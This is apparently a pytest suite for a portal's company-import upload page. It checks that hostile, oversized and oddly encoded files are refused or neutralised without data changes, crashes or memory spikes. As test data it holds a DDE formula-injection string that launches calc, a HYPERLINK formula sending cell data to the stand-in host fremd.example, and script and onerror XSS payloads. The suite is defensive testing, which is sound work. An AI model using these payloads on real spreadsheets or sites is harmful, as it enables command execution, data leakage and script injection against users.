"""Hostile and wrong files at the upload page of a running portal: a sentence, soon, in little memory, nothing else."""

import os
import re
import time
from pathlib import Path

import psutil
import pytest

from tests.companies.sheets_data import workbook
from tests.hostile.browser import Browser
from tests.hostile.files import HEAVY, QUICK
from tests.services import owner_of

PAGE = "/io/gws/companies/import/"
SECONDS, MEGABYTES = 10, 500
COUNTED = ("companies_company", "companies_importbatch", "companies_importrow", "documents_document", "jobs_job")
COMMAND = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://fremd.example/?"&A1,"Hier klicken")'


@pytest.fixture(scope="module")
def desk(portal):
    """Somebody of the lead at the upload page."""
    return Browser(portal).sign_in(portal.site.people["lead_coordinator"])


def rows_of(portal):
    """How many rows each table has, asked as the owner, who sees all."""
    with owner_of(portal.database) as connection:
        return {name: connection.execute(f"SELECT count(*) FROM {name}").fetchone()[0] for name in COUNTED}


def peak_of_web(portal):
    """The largest memory any of the web server's processes ever had, in MB."""
    master = psutil.Process(portal.processes["web"].pid)
    return max(_peak(process.pid) for process in [master, *master.children(recursive=True)])


def _peak(pid):
    line = re.search(r"VmHWM:\s+(\d+) kB", Path(f"/proc/{pid}/status").read_text())
    return int(line[1]) / 1024


def patience():
    """Ten seconds, and in proportion more while others use the processors too."""
    return SECONDS * max(1, os.getloadavg()[0] / os.cpu_count())


def restarts_of(portal):
    return portal.log("web").count("Booting worker")


def refusal(portal, desk, content, name):
    """Upload it; what must hold for every refused file. Returns the answer."""
    before, restarts = rows_of(portal), restarts_of(portal)
    answer = desk.upload(PAGE, content, name)
    print(f"{len(content) / 1e6:.1f} MB: {answer.seconds:.1f} s, peak {peak_of_web(portal):.0f} MB")
    assert rows_of(portal) == before
    assert restarts_of(portal) == restarts
    assert answer.seconds < patience()
    assert peak_of_web(portal) <= MEGABYTES
    assert desk.get("/healthz").status == 200
    return answer


@pytest.mark.parametrize("kind", QUICK)
def test_file_is_refused_with_a_sentence(portal, desk, kind):
    make, name, sentence = QUICK[kind]
    answer = refusal(portal, desk, make(), name)
    assert answer.status == 422
    assert sentence in answer.words


@pytest.mark.prove
@pytest.mark.parametrize("kind", [kind for kind in HEAVY if HEAVY[kind][2]])
def test_heavy_file_is_refused_with_a_sentence(portal, desk, kind):
    make, name, sentence = HEAVY[kind]
    answer = refusal(portal, desk, make(), name)
    assert answer.status == 422
    assert sentence in answer.words


def outcome(desk, answer, *, seconds=60):
    """Follow an accepted upload until the worker has read it: the page that says what came of it."""
    assert answer.status == 302, answer.words
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        page = desk.get(answer.headers["Location"])
        if page.status == 302:
            page = desk.get(page.headers["Location"])
        if b"<progress" not in page.body:
            return page
        time.sleep(0.3)
    raise AssertionError(f"still reading after {seconds} s")


@pytest.mark.prove
@pytest.mark.parametrize("kind", [kind for kind in HEAVY if not HEAVY[kind][2]])
def test_file_that_only_reading_refuses_says_so_and_imports_nothing(portal, desk, kind):
    make, name, _sentence = HEAVY[kind]
    before = rows_of(portal)
    answer = desk.upload(PAGE, make(), name)
    words = answer.words if answer.status == 422 else outcome(desk, answer).words
    print(f"{kind}: {answer.seconds:.1f} s, peak {peak_of_web(portal):.0f} MB: {words[-300:]}")
    assert answer.seconds < patience()
    assert peak_of_web(portal) <= MEGABYTES
    after = rows_of(portal)
    assert {name: after[name] for name in COUNTED[:1]} == {name: before[name] for name in COUNTED[:1]}
    assert after["companies_importrow"] == before["companies_importrow"]


def test_nothing_chosen_is_a_sentence(desk):
    answer = desk.post(PAGE)
    assert answer.status == 422
    assert "Bitte wählen Sie die Datei" in answer.words


@pytest.mark.parametrize(
    "encoding", ["utf-8", "utf-8-sig", "cp1252", "utf-16", "utf-16-le", "utf-16-be", "utf-32"], ids=str
)
def test_list_in_any_usual_encoding_is_read(portal, desk, encoding):
    """Each differs a little, so that none is taken for the one before."""
    name = f"Prüfling Öse {encoding} GmbH"
    text = f"Firma\tPLZ\tOrt\tE-Mail\n{name}\t58507\tLüdenscheid\toese@{encoding}.example\n"
    companies = rows_of(portal)["companies_company"]
    page = outcome(desk, desk.upload(PAGE, text.encode(encoding), "liste.txt"))
    assert page.status == 200
    assert name in page.words
    assert rows_of(portal)["companies_company"] == companies


def formulas_in(kind):
    rows = [["Firma", "PLZ", "Ort", "E-Mail"], [COMMAND, "58507", LINK, "x@rechnung.example"]]
    if kind == "csv":
        return "\n".join(";".join('"' + cell.replace('"', '""') + '"' for cell in row) for row in rows).encode()
    return workbook(A=[*rows, ["Muster Formel GmbH", "58507", "@SUM(1)", "+49 2351 1"]])


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_formulas_stay_texts_and_are_never_a_link(portal, desk, kind):
    companies = rows_of(portal)["companies_company"]
    page = outcome(desk, desk.upload(PAGE, formulas_in(kind), f"formeln.{kind}"))
    assert page.status == 200
    assert b'href="http://fremd.example' not in page.body
    assert rows_of(portal)["companies_company"] == companies
    if kind == "csv":
        assert COMMAND in page.words


def test_markup_in_cells_is_shown_as_typed(desk):
    cells = ["<script>alert(1)</script> GmbH", "58507", "<img src=x onerror=alert(1)>"]
    page = outcome(desk, desk.upload(PAGE, workbook(A=[["Firma", "PLZ", "Ort"], cells]), "<b>liste</b>.xlsx"))
    assert page.status == 200
    assert b"<script>alert(1)" not in page.body
    assert b"<img src=x" not in page.body
    assert b"&lt;script&gt;alert(1)" in page.body


def test_portal_goes_on_after_all_of_it(portal, desk):
    """Last on purpose: what the others left behind."""
    assert desk.get(PAGE).status == 200
    assert portal.log("web").count("Booting worker") == 2
    assert "Traceback" not in portal.log("web")
    print(f"peak of the web processes after all: {peak_of_web(portal):.0f} MB")
